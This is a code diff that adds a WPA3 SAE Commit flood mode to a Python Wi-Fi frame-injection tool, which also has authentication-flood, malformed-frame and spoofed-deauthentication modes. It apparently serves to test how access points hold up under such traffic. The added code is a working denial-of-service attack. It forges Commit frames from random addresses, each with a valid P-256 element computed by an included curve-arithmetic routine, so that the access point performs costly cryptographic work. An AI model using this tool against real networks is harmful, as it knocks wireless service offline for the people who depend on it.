@@ -20,6 +20,19 @@ KIND
   spoof-deauth  Deauthentication and Disassociation "from" --sta to the AP,
                 unprotected or with the Protected bit and a bogus CCMP body:
                 with PMF the AP must ignore them all.
+  sae-commit-flood
+                SAE Commit frames (Authentication algorithm 3, transaction 1,
+                status 0: hunting-and-pecking, group 19) from random locally
+                administered addresses, each with a random scalar in
+                [2, r-1] and a valid P-256 element. A point off the curve
+                or a scalar out of range is refused after a cheap check; a
+                valid pair is what makes the AP derive a password element
+                for the new address and do real scalar multiplications, the
+                work an anti-clogging token exists to keep within bounds.
+                The elements are a few points k*G precomputed here with
+                plain integer arithmetic (the attacker need not know their
+                discrete logarithm relative to the PWE: any valid point will
+                do, as the AP cannot tell).
 
 All frames are built before the first is sent (so that building them does
 not slow the injection down), then sent in small bursts against the clock
@@ -70,6 +83,53 @@ def rsne(pairwise_count=1, akm_count=1, caps=0x00C0):
     body += struct.pack("<H", pairwise_count) + CCMP
     body += struct.pack("<H", akm_count) + PSK
     return elem(48, body + struct.pack("<H", caps))
+
+
+# NIST P-256 (group 19): y^2 = x^3 - 3x + b over GF(p), generator G of order R.
+P256_P = 2**256 - 2**224 + 2**192 + 2**96 - 1
+P256_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
+P256_G = (0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
+          0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5)
+P256_R = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+
+
+def p256_multiply(k, point):
+    """k * point, double-and-add in Jacobian coordinates (one inversion at the
+    end, so that a few points take milliseconds even on an emulated CPU)."""
+    p = P256_P
+
+    def double(X, Y, Z):
+        if Y == 0:
+            return 0, 1, 0
+        S = 4 * X * Y * Y % p
+        M = 3 * (X - Z * Z) * (X + Z * Z) % p  # a = -3
+        X3 = (M * M - 2 * S) % p
+        return X3, (M * (S - X3) - 8 * pow(Y, 4, p)) % p, 2 * Y * Z % p
+
+    def add(X1, Y1, Z1, X2, Y2, Z2):
+        if Z1 == 0:
+            return X2, Y2, Z2
+        if Z2 == 0:
+            return X1, Y1, Z1
+        U1, U2 = X1 * Z2 * Z2 % p, X2 * Z1 * Z1 % p
+        S1, S2 = Y1 * pow(Z2, 3, p) % p, Y2 * pow(Z1, 3, p) % p
+        if U1 == U2:
+            return double(X1, Y1, Z1) if S1 == S2 else (0, 1, 0)
+        H, Rr = (U2 - U1) % p, (S2 - S1) % p
+        X3 = (Rr * Rr - H ** 3 - 2 * U1 * H * H) % p
+        return X3, (Rr * (U1 * H * H - X3) - S1 * H ** 3) % p, H * Z1 * Z2 % p
+
+    acc, base = (0, 1, 0), (point[0], point[1], 1)
+    while k:
+        if k & 1:
+            acc = add(*acc, *base)
+        base = double(*base)
+        k >>= 1
+    X, Y, Z = acc
+    zinv = pow(Z, -1, p)
+    x, y = X * zinv * zinv % p, Y * zinv ** 3 % p
+    assert (y * y - (x ** 3 - 3 * x + P256_B)) % p == 0, "not on P-256"
+    return x, y
 
 
 class Frames:
@@ -189,6 +249,15 @@ class Frames:
         subtype = self.rng.choice([ASSOC_REQ, REASSOC_REQ, AUTH, ACTION, 7, 15])
         return self.header(subtype, self.random_sta())
 
+    # --- sae-commit-flood ---------------------------------------------------
+    def sae_commit(self):
+        if not hasattr(self, "elements"):
+            self.elements = [p256_multiply(self.rng.randrange(2, P256_R), P256_G) for _ in range(8)]
+        x, y = self.rng.choice(self.elements)
+        scalar = self.rng.randrange(2, P256_R)
+        return (self.header(AUTH, self.random_sta()) + struct.pack("<HHHH", 3, 1, 0, 19)
+                + scalar.to_bytes(32, "big") + x.to_bytes(32, "big") + y.to_bytes(32, "big"))
+
     # --- spoof-deauth -------------------------------------------------------
     def spoofed_leave(self):
         subtype = self.rng.choice([DEAUTH, DISASSOC])
@@ -203,7 +272,7 @@ class Frames:
 def main():
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     ap.add_argument("iface")
-    ap.add_argument("kind", choices=["auth-flood", "malformed", "spoof-deauth"])
+    ap.add_argument("kind", choices=["auth-flood", "malformed", "spoof-deauth", "sae-commit-flood"])
     ap.add_argument("--bssid", type=mac, required=True)
     ap.add_argument("--sta", type=mac, help="the station whose address spoof-deauth forges")
     ap.add_argument("--ssid", default="roam-air")
@@ -219,6 +288,8 @@ def main():
         makers = [frames.auth_open]
     elif args.kind == "spoof-deauth":
         makers = [frames.spoofed_leave]
+    elif args.kind == "sae-commit-flood":
+        makers = [frames.sae_commit]
     else:
         makers = [getattr(frames, name) for name in sorted(dir(frames)) if name.startswith("m_")]
 
